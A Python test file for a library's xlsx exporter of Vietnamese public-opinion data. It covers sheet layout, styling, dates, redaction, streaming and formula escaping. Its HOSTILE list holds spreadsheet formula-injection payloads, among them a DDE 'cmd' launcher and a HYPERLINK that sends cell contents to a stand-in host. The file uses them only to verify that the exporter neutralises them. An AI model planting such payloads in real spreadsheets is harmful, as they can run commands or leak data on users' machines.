"""The xlsx annex: sheets, styling, dates, formula escaping, streaming, round trip."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import dlxh
from dlxh.batch import ImportBatch
from dlxh.errors import Problem, Severity
from dlxh.exporters.document import ITEM_COLUMNS, ReportBundle, Table
from dlxh.exporters.xlsx_exporter import XlsxExporter, write_xlsx
from dlxh.exporters.xlsx_writer import XlsxWriter, column_letter, sheet_title
from dlxh.model.enums import Breadth, Channel, Method, Origin
from dlxh.model.opinions import Label, OpinionItem
from dlxh.model.sources import SourceRef
from dlxh.testing import fresh_session
from dlxh.testing.contracts import ExporterContract
from exporters.exporter_samples import make_items, make_recommendations, make_report, make_streams

HOSTILE = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1\n=2+2",
]


class TestXlsxContract(ExporterContract):
    exporter_class = XlsxExporter
    extension = ".xlsx"

    def make_object(self) -> object:
        return make_items()


def _rows(path: Path, sheet: str) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(path)
    return list(book[sheet].iter_rows(values_only=True))


def _parse_label(line: str) -> Label:
    fields = dict(part.split("=", 1) for part in line.split("; "))
    dimension, value = next(iter(fields.items()))
    classifier, _, version = fields["classifier"].partition("@")
    return Label(dimension, value, confidence=float(fields["confidence"]),
                 classifier=classifier, classifier_version=version, review=fields["review"])


def _item_from_row(row: dict[str, Any]) -> OpinionItem:
    """What the xlsx importer (issue 6) will do with the documented item-list layout."""

    def enum(cls: Any, column: str) -> Any:
        return cls.from_value_or_label(row[column]) if row[column] else None

    day = row["Ngày"]
    return OpinionItem(
        id=row["Mã"],
        text=row["Nội dung ý kiến"],
        date=day.date() if isinstance(day, dt.datetime) else day,
        place_text=row["Địa bàn"],
        unit=row["Mã đơn vị"],
        area_id=row["Mã khu dân cư"],
        groups=tuple(row["Đối tượng"].split("; ")) if row["Đối tượng"] else (),
        reasons=tuple(row["Lý do"].split("\n")) if row["Lý do"] else (),
        breadth=enum(Breadth, "Độ rộng"),
        origin=enum(Origin, "Nguồn gốc"),
        channel=enum(Channel, "Kênh"),
        method=enum(Method, "Phương pháp"),
        reporter_id=row["Người phản ánh"],
        organisation_id=row["Tổ chức"],
        report_id=row["Mã báo cáo"],
        labels=tuple(_parse_label(x) for x in row["Nhãn (nguồn gốc)"].split("\n"))
        if row["Nhãn (nguồn gốc)"] else (),
        source=SourceRef(row["Tệp nguồn"], location=row["Vị trí trong tệp"] or "")
        if row["Tệp nguồn"] else None,
    )


def _read_items(path: Path) -> list[OpinionItem]:
    rows = _rows(path, "Ý kiến")
    header = rows[0]
    assert header == ITEM_COLUMNS
    return [_item_from_row(dict(zip(header, row, strict=True))) for row in rows[1:]]


def test_item_list_round_trips(tmp_path: Path) -> None:
    items = make_items()
    items[0] = OpinionItem(
        id="item-full", text="Ý kiến đầy đủ các trường", date=dt.date(2026, 2, 1),
        unit="00001", area_id="kdc-1", place_text="Thôn Đông", reporter_id="ctv-9",
        organisation_id="mttq-xa", report_id="bc-1", channel=Channel.ZALO,
        method=Method.GROUP_DISCUSSION, origin=Origin.RUMOUR, breadth=Breadth.SOME_PEOPLE,
        groups=("nong-dan", "phu-nu"), reasons=("Lý do một", "Lý do hai; có chấm phẩy"),
        labels=(Label("topic", "y-te", confidence=0.25, classifier="ml",
                      classifier_version="2.1", review="corrected"),),
        source=SourceRef("tin-nhan.txt", location="dòng 4"),
    )
    path = tmp_path / "danh-sach.xlsx"
    dlxh.write(items, path, redact=False)
    assert _read_items(path) == items


def test_sheets_of_an_item_list(tmp_path: Path) -> None:
    path = tmp_path / "danh-sach.xlsx"
    dlxh.write(make_items(), path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Theo lĩnh vực", "Theo địa bàn", "Ý kiến"]
    sheet = book["Ý kiến"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{column_letter(len(ITEM_COLUMNS) - 1)}5"
    assert sheet.column_dimensions["B"].width == 60
    header = sheet["A1"]
    assert header.font.b
    assert header.fill.fgColor.rgb == "FFDDEBF7"
    date_cell = sheet["C2"]
    assert date_cell.is_date
    assert date_cell.value == dt.datetime(2026, 10, 3)
    assert date_cell.number_format == "dd/mm/yyyy"
    # Unit codes stay text (leading zeros).
    assert sheet["E2"].data_type == "s"
    topics = _rows(path, "Theo lĩnh vực")
    assert topics[0] == ("Lĩnh vực", "Tán thành, đồng tình", "Phản đối", "Băn khoăn, lưỡng lự",
                         "Chưa rõ", "Chưa gán", "Tổng")
    assert sum(row[-1] for row in topics[1:]) == 4
    units = {row[0]: row for row in _rows(path, "Theo địa bàn")[1:]}
    assert units["26740"][1] == "Phường Đông Hải"
    assert units["26740"][-1] == 2


def test_redaction_by_default(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    dlxh.write(make_items(), path)
    rows = _rows(path, "Ý kiến")
    text = rows[2][1]
    assert "[số điện thoại]" in text
    assert "0912" not in text
    assert all(row[ITEM_COLUMNS.index("Người phản ánh")] is None for row in rows[1:])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_formula_injection_is_neutralised(tmp_path: Path, hostile: str) -> None:
    item = OpinionItem(id="item-h", text=hostile, place_text=hostile, unit=hostile)
    path = tmp_path / "h.xlsx"
    dlxh.write([item], path, redact=False)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert all("<f>" not in s and "<f " not in s for s in sheets)
    sheet = openpyxl.load_workbook(path)["Ý kiến"]
    # The model strips the text fields; the unit code is kept as given.
    for ref, written in (("B2", item.text), ("D2", item.place_text), ("E2", hostile)):
        cell = sheet[ref]
        assert cell.data_type == "s", ref
        assert cell.value == written  # the value itself is unchanged
        assert cell.quotePrefix  # and Excel keeps it as text, even when edited


def test_plain_text_gets_no_quote_prefix(tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    dlxh.write(make_items(), path)
    assert not openpyxl.load_workbook(path)["Ý kiến"]["B2"].quotePrefix


def test_a_generator_is_streamed(tmp_path: Path) -> None:
    consumed: list[int] = []

    def items() -> Any:
        for i in range(300):
            consumed.append(i)
            yield OpinionItem(id=f"item-{i}", text=f"Ý kiến {i}", date=dt.date(2026, 1, 1))

    path = tmp_path / "g.xlsx"
    fresh_session().write(items(), path)
    assert len(consumed) == 300
    rows = _rows(path, "Ý kiến")
    assert len(rows) == 301
    assert rows[-1][0] == "item-299"


def test_report_bundle_annex(tmp_path: Path) -> None:
    completeness = [{"Đơn vị": "Xã Tân Hòa", "Đã nộp": True, "Ngày nộp": dt.date(2026, 10, 3)},
                    {"Đơn vị": "Phường Đông Hải", "Đã nộp": False, "Ngày nộp": None}]
    activity = Table("Hoạt động", ["Mã CTV", "Số tin"], [["ctv-01", 12]])
    bundle = ReportBundle(make_report(), streams=make_streams(), items=make_items(),
                          recommendations=make_recommendations())
    path = tmp_path / "phu-luc.xlsx"
    dlxh.write(bundle, path, completeness=completeness, activity=activity)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Theo lĩnh vực", "Theo địa bàn", "Luồng ý kiến",
                               "Ý kiến theo luồng", "Ý kiến", "Kiến nghị", "Tiến độ báo cáo",
                               "Hoạt động CTV"]
    streams = list(book["Luồng ý kiến"].iter_rows(values_only=True))
    assert [r[0] for r in streams[1:]] == [s.id for s in make_streams()]
    evidence = list(book["Ý kiến theo luồng"].iter_rows(values_only=True))
    assert ("stream-boi-thuong", "item-003") in {(r[0], r[2]) for r in evidence}
    done = list(book["Tiến độ báo cáo"].iter_rows(values_only=True))
    assert done[1] == ("Xã Tân Hòa", True, dt.datetime(2026, 10, 3))
    assert done[2] == ("Phường Đông Hải", False, None)
    recs = list(book["Kiến nghị"].iter_rows(values_only=True))
    assert recs[1][3] == "Tỉnh"


def test_batch_with_problems(tmp_path: Path) -> None:
    batch = ImportBatch()
    batch.seen = 5
    for item in make_items():
        batch.add(item)
    batch.reject(Problem("missing-text", Severity.ERROR, "Dòng không có nội dung", "Sheet1!B9"))
    path = tmp_path / "b.xlsx"
    dlxh.write(batch, path)
    rows = _rows(path, "Lỗi nhập liệu")
    assert rows[1] == ("missing-text", "Lỗi", "Dòng không có nội dung", "Sheet1!B9")


def test_sheet_titles_are_made_valid() -> None:
    assert sheet_title("Tiến độ: quý [III]/2026?") == "Tiến độ  quý  III  2026"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("Ý kiến", ["ý kiến"]) == "Ý kiến (2)"


def test_writer_handles_control_characters_and_long_text(tmp_path: Path) -> None:
    path = tmp_path / "c.xlsx"
    with XlsxWriter(path) as book, book.sheet("A", ["x"]) as sheet:
        sheet.append(["a\x00b\x0bc"])
        sheet.append(["y" * 40000])
        sheet.append([float("nan")])
        sheet.append([" lề trái"])
    rows = _rows(path, "A")
    assert rows[1] == ("abc",)
    assert len(rows[2][0]) == 32767
    assert rows[3] == ("nan",)
    assert rows[4] == (" lề trái",)


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"],
                                      blacklist_characters="\x00\ufffe\uffff"), min_size=1))
def test_any_text_reads_back_as_written(text: str) -> None:
    import io
    import re

    buffer = io.BytesIO()
    with XlsxWriter(buffer) as book, book.sheet("A", ["x"]) as sheet:
        sheet.append([text])
    value = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["A"]["A2"].value
    expected = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
    assert (value or "") == expected


def test_write_xlsx_refuses_parts_for_a_plain_list(tmp_path: Path) -> None:
    with pytest.raises(TypeError, match="streams"):
        write_xlsx(make_items(), tmp_path / "x.xlsx", streams=make_streams())


def test_a_table_and_a_list_of_tables_are_written_one_sheet_each(tmp_path: Path) -> None:
    from dlxh.exporters import Table

    coverage = Table("Độ phủ", ("Đơn vị", "CTV"), (("Xã Hòa An", 0), ("Xã Tân Lập", 4)))
    rates = Table("Tiến độ", ("Tổ chức", "Đúng hạn"), (("Ủy ban MTTQ xã Hòa An", 1),))
    one = tmp_path / "mot.xlsx"
    dlxh.write(coverage, one)
    book = openpyxl.load_workbook(one, read_only=True)
    assert book.sheetnames == ["Độ phủ"]
    assert list(book["Độ phủ"].iter_rows(values_only=True))[1] == ("Xã Hòa An", 0)
    two = tmp_path / "hai.xlsx"
    dlxh.write([coverage, rates], two)
    assert openpyxl.load_workbook(two, read_only=True).sheetnames == ["Độ phủ", "Tiến độ"]
